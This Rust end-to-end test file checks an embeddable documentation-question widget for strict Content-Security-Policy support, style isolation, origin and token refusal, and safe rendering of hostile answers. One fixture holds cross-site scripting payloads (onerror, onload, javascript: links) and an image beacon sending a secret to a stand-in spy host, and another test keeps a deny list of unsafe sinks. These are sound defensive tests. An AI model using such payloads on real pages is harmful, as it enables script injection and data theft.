//! The box on strict and hostile pages, with hostile answers: it works, and does no harm.

use anyhow::{Result, ensure};
use ask_docs_e2e::{Browser, CONSOLE, Gateway, Scripted, Shape, Step, env, snapshot, stream_head};
use serde_json::json;

/// A page of another origin than the gateway's, under `policy`, which has to allow the nonce of
/// the script that keeps what the console says.
async fn page(gateway: &Gateway, policy: &str, head: &str, body: &str) -> Result<Scripted> {
    page_at("127.0.0.1", gateway, policy, head, body).await
}

/// As [`page`], at another address of this machine.
async fn page_at(
    address: &str,
    gateway: &Gateway,
    policy: &str,
    head: &str,
    body: &str,
) -> Result<Scripted> {
    let script = format!("<script async src=\"{}/ask-docs.js\"></script>", gateway.address);
    let console = format!("<script nonce=console>{CONSOLE}</script>");
    let html =
        format!("<!doctype html><title>Host</title>{console}{head}{script}<body>{body}</body>");
    let headers = match policy {
        "" => "Content-Type: text/html\r\n".to_owned(),
        policy => {
            let policy = policy.replace("GATEWAY", &gateway.address);
            format!("Content-Type: text/html\r\nContent-Security-Policy: {policy}\r\n")
        }
    };
    let steps = move |_: &_| vec![Step::send(stream_head("200 OK", &headers) + &*html)];
    Scripted::start_at(address, steps).await
}

#[tokio::test]
async fn the_box_answers_under_a_strict_policy_and_trusted_types() -> Result<()> {
    let gateway = Gateway::over_docs(&["--pace", "0"]).await?;
    let policy = "default-src 'none'; script-src GATEWAY 'nonce-console' 'wasm-unsafe-eval'; \
                  connect-src GATEWAY; require-trusted-types-for 'script'; trusted-types 'none'";
    let host = page(&gateway, policy, "", "<ask-docs></ask-docs>").await?;
    let browser = Browser::start(Shape::Desktop).await?;
    let ask_box = browser.open(&host.address).await?;
    ask_box.ask("How do I run the gateway with a GitBook token?").await?;
    ask_box.completed().await?;
    // The styles are there: a policy without `style-src` has not kept them out.
    let radius = "return getComputedStyle(document.querySelector('ask-docs')\
                  .shadowRoot.querySelector('.box')).borderRadius";
    ensure!(browser.run(radius).await? == "12px");
    let complaints = browser.complaints().await?;
    ensure!(complaints.is_empty(), "{complaints:?}");
    browser.quit().await
}

#[tokio::test]
async fn styles_of_the_page_and_of_the_box_do_not_meet() -> Result<()> {
    let gateway = Gateway::over_docs(&["--pace", "0"]).await?;
    let head = "<style>
        html { font-size: 62.5% } * { all: unset !important }
        button, textarea { display: none !important } p { color: rgb(1, 2, 3) }
        </style>";
    let host = page(&gateway, "", head, "<p id=mine>Mine</p><ask-docs></ask-docs>").await?;
    let browser = Browser::start(Shape::Desktop).await?;
    let before = "return [document.head.childElementCount, document.adoptedStyleSheets.length, \
                  getComputedStyle(document.querySelector('#mine')).fontSize]";
    browser.driver.goto(&host.address).await?;
    let untouched = browser.run(before).await?;
    let ask_box = browser.ask_box("ask-docs").await?;
    ask_box.ask("How is the box themed?").await?;
    ask_box.completed().await?;
    ensure!(browser.run(before).await? == untouched, "the page has changed");
    let size = "return getComputedStyle(document.querySelector('ask-docs')\
                .shadowRoot.querySelector('.answer')).fontSize";
    ensure!(browser.run(size).await? == "16px");
    browser.quit().await
}

#[tokio::test]
async fn a_page_of_a_foreign_origin_is_refused_in_words() -> Result<()> {
    let gateway = Gateway::over_docs(&["--allow-origin", "https://docs.example.com"]).await?;
    let host = page(&gateway, "", "", "<ask-docs></ask-docs>").await?;
    let browser = Browser::start(Shape::Desktop).await?;
    let ask_box = browser.open(&host.address).await?;
    ask_box.ask("How?").await?;
    let sentence = ask_box.text(".notice p", |text| !text.is_empty()).await?;
    ensure!(sentence.contains("not allowed from this page"), "{sentence}");
    ensure!(ask_box.draft().await? == "How?");
    browser.quit().await
}

#[tokio::test]
async fn a_token_on_a_public_page_is_refused_with_the_reason() -> Result<()> {
    // Neither the name nor the address that a page of one's own machine has.
    const PUBLIC: &str = "127.0.0.2";
    let gateway = Gateway::over_docs(&["--allow-origin", &format!("http://{PUBLIC}")]).await?;
    let api = Scripted::start(|_| {
        let body = stream_head("200 OK", "") + &*snapshot("Yes.", json!([]));
        vec![Step::send(body + "event: done\ndata: done\n\n")]
    })
    .await?;
    let body =
        format!("<ask-docs endpoint=\"{}\" token=\"gb_api_secret\"></ask-docs>", api.address);
    let host = page_at(PUBLIC, &gateway, "", "", &body).await?;
    let browser = Browser::start(Shape::Desktop).await?;
    let ask_box = browser.open(&host.address).await?;
    ask_box.ask("How?").await?;
    ask_box.completed().await?;
    let received = api.received();
    ensure!(received.len() == 2, "starter questions and one ask, not {}", received.len());
    for request in received {
        let all = format!("{} {:?} {}", request.line, request.headers, request.body);
        ensure!(!all.contains("gb_api_secret") && !all.contains("authorization"), "{all}");
    }
    let complaints = browser.complaints().await?;
    let why = complaints.iter().find(|one| one.contains("`token` is ignored"));
    ensure!(why.is_some(), "the console does not say why: {complaints:?}");
    ensure!(!complaints.iter().any(|one| one.contains("gb_api_secret")), "{complaints:?}");
    browser.quit().await
}

#[tokio::test]
async fn a_leptos_app_uses_the_box_as_its_component() -> Result<()> {
    let (docs, app) = (env("XTASK_ROOT")?.join("docs"), env("XTASK_TRUNK")?);
    let (docs, app) = (docs.display().to_string(), app.display().to_string());
    let gateway = Gateway::serving(&["--docs", &docs, "--www", &app, "--pace", "0"]).await?;
    let browser = Browser::start(Shape::Desktop).await?;
    browser.driver.goto(&gateway.address).await?;
    let ask_box = browser.ask_box("main > div").await?;
    ask_box.ask("How do I run the gateway with a GitBook token?").await?;
    ask_box.completed().await?;
    browser.quit().await
}

const HOSTILE: &str = "<img src=x onerror=\"window.harmed=1\"><script>window.harmed=1</script>\n\n\
    [run](javascript:window.harmed=1) and ![spy](https://spy.example/?q=secret)\n\n\
    <iframe srcdoc=\"x\"></iframe>\n\n| a | b |\n|---|---|\n| <svg onload=harmed=1> | [x](data:text/html,x) |\n\n\
    [fine](https://docs.example.com/page)\n";

#[tokio::test]
async fn a_hostile_answer_is_shown_as_text_and_asks_for_nothing() -> Result<()> {
    let gateway = Gateway::over_docs(&[]).await?;
    let api = Scripted::start(|request| {
        let sources = json!([
            {"type": "record", "record": "1", "site": "s", "title": "<b>Bold</b>", "url": "javascript:harmed=1"},
            {"type": "record", "record": "2", "site": "s", "title": "Fine", "url": "https://docs.example.com/a"},
            {"type": "page", "page": "p", "revision": "r", "space": "s", "sections": [], "reason": "Said so"}
        ]);
        let body = match request.line.starts_with("GET") {
            true => String::new(),
            false => {
                let nested = format!("{}deep\n\n", "> ".repeat(4000));
                snapshot(&(HOSTILE.to_owned() + &*nested), sources)
            }
        };
        vec![Step::send(stream_head("200 OK", "") + &*body + "event: done\ndata: done\n\n")]
    })
    .await?;
    let body = format!("<ask-docs endpoint=\"{}\"></ask-docs>", api.address);
    let host = page(&gateway, "", "", &body).await?;
    let browser = Browser::start(Shape::Desktop).await?;
    let ask_box = browser.open(&host.address).await?;
    ask_box.ask("How?").await?;
    ask_box.completed().await?;
    ask_box.text(".answer", |text| text.contains("fine") && text.contains("deep")).await?;
    let found = browser
        .run(
            "const answer = document.querySelector('ask-docs').shadowRoot.querySelector('.turn-body');
             const all = [...answer.querySelectorAll('*')];
             return {
                harmed: window.harmed ?? null,
                names: [...new Set(all.map((one) => one.localName))],
                attributes: [...new Set(all.flatMap((one) => one.getAttributeNames()))],
                hrefs: all.filter((one) => one.href).map((one) => String(one.href)),
                requests: performance.getEntriesByType('resource').map((one) => one.name),
             };",
        )
        .await?;
    ensure!(found["harmed"].is_null(), "{found}");
    for name in ["img", "script", "iframe", "object", "style", "form", "input"] {
        ensure!(!found["names"].to_string().contains(&format!("\"{name}\"")), "{name}: {found}");
    }
    ensure!(!found["attributes"].to_string().contains("\"on"), "{found}");
    for href in found["hrefs"].as_array().into_iter().flatten() {
        ensure!(href.as_str().is_some_and(|href| href.starts_with("https://")), "{found}");
    }
    ensure!(!found["requests"].to_string().contains("spy.example"), "{found}");
    ask_box.text(".sources li:first-child", |text| text.contains("<b>Bold</b>")).await?;
    ask_box.text(".sources li:last-child", |text| text.contains("Documentation page")).await?;
    browser.quit().await
}

#[test]
fn the_shipped_glue_holds_no_way_to_run_text_as_code_or_markup() -> Result<()> {
    let mut seen = 0;
    for entry in std::fs::read_dir(env("XTASK_WWW")?)? {
        let path = entry?.path();
        let name = path.file_name().and_then(|name| name.to_str()).unwrap_or_default();
        if name.ends_with(".js") {
            let text = std::fs::read_to_string(&path)?;
            for word in ["innerHTML", "outerHTML", "insertAdjacentHTML", "eval(", "new Function"] {
                ensure!(!text.contains(word), "{name} holds `{word}`");
            }
            seen += 1;
        }
    }
    ensure!(seen >= 2, "the loader and the glue should be in the folder");
    Ok(())
}
